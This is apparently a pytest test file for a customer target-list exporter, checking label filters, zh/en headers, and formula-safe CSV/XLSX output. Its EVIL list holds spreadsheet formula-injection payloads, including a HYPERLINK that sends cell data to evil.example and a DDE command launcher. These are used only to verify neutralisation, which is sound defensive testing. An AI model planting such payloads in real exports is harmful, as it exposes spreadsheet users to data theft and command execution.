"""Target lists: filters over labels and features, zh/en headers, formula-safe CSV and XLSX."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import polars as pl
import pytest

from tierwise.act import Range, neutralise, target_list, write_table
from tierwise.errors import DataError
from tierwise.scheme import default_scheme

SCHEME = default_scheme()
CUSTOMERS = pl.DataFrame(
    {
        "customer_id": ["C3", "C1", "C2", "C4"],
        "name": ["杭州云帆", "Acme", "明远贸易", "Tiny"],
        "province": ["浙江", "上海", "上海", "江苏"],
        "value_tier": ["B", "A", "C", "A"],
        "needs": ["price_sensitive+service_focused", "feature_focused", "service_focused", None],
        "monetary_value": [1200.0, 5000.0, 800.0, 300.0],
    }
)


def test_filter_by_labels_and_a_feature_range_with_english_headers() -> None:
    out = target_list(
        CUSTOMERS,
        scheme=SCHEME,
        filters={"value_tier": ["A", "B"], "monetary_value": Range(min=1000)},
        columns=["customer_id", "name", "value_tier", "monetary_value"],
        lang="en",
    )
    assert out.columns == ["customer id", "name", "Value tier", "mean spend of repeat purchases"]
    assert out.rows() == [
        ("C1", "Acme", "A Key account", 5000.0),
        ("C3", "杭州云帆", "B Standard", 1200.0),
    ]


def test_chinese_headers_default_columns_and_multi_labels() -> None:
    out = target_list(
        CUSTOMERS,
        scheme=SCHEME,
        filters={"needs": ["service_focused"], "province": ["上海", "浙江"]},
        lang="zh",
    )
    # default columns: id, name, then the scheme's dimensions present, in scheme order
    assert out.columns == ["客户编号", "客户名称", "价值等级", "需求类型"]
    assert out.rows() == [
        ("C2", "明远贸易", "C 非优先", "重视服务"),
        ("C3", "杭州云帆", "B 普通", "价格敏感、重视服务"),  # a multi-label matches on any part
    ]


def test_caller_headers_win_and_clashing_titles_are_told_apart() -> None:
    out = target_list(
        CUSTOMERS.head(1),
        scheme=SCHEME,
        columns=["customer_id", "value_tier"],
        headers={"customer_id": "价值等级"},
        lang="zh",
    )
    assert out.columns == ["价值等级", "价值等级（分级）"]


def test_unknown_columns_and_labels_are_explained() -> None:
    with pytest.raises(DataError, match="unknown label\\(s\\) Z: its labels are D, C, B, A"):
        target_list(CUSTOMERS, scheme=SCHEME, filters={"value_tier": ["Z"]})
    with pytest.raises(DataError, match="no column owner in the customers"):
        target_list(CUSTOMERS, scheme=SCHEME, filters={"owner": ["li"]})
    with pytest.raises(DataError, match='write \\["A"\\]'):
        target_list(CUSTOMERS, scheme=SCHEME, filters={"value_tier": "A"})


EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    "   =1+1",  # leading spaces
    "\u3000=1+1",  # a full-width space
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Acme -1", "a=b", "100"]


def test_formula_like_cells_are_neutralised() -> None:
    out = neutralise(pl.DataFrame({"name": EVIL + HARMLESS}))["name"].to_list()
    assert out == ["'" + v for v in EVIL] + HARMLESS


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exported_target_lists_run_no_formula(tmp_path: Path, suffix: str) -> None:
    customers = pl.DataFrame(
        {"customer_id": [f"E{i:02d}" for i in range(len(EVIL + HARMLESS))], "name": EVIL + HARMLESS,
         "value_tier": ["A"] * len(EVIL + HARMLESS)}
    )  # fmt: skip
    frame = target_list(customers, scheme=SCHEME, headers={"name": "=cmd"}, lang="en")
    path = write_table(frame, tmp_path / f"targets{suffix}")
    if suffix == ".csv":
        raw = path.read_bytes()
        assert raw.startswith("\ufeff".encode())  # Excel reads the BOM as UTF-8
        back = pl.read_csv(raw[3:], infer_schema=False)
        assert back.columns == ["customer id", "'=cmd", "Value tier"]
        values = back["'=cmd"].to_list()
    else:
        sheet = openpyxl.load_workbook(path).active
        assert sheet is not None
        cells = [row[1] for row in sheet.iter_rows(min_row=1)]
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        assert cells[0].value == "'=cmd"
        # xlsxwriter stores a carriage return as the OOXML escape _x000D_, which openpyxl
        # leaves as it is (Excel shows a line break)
        values = [str(c.value).replace("_x000D_", "\r") for c in cells[1:]]
    assert values == ["'" + v for v in EVIL] + HARMLESS
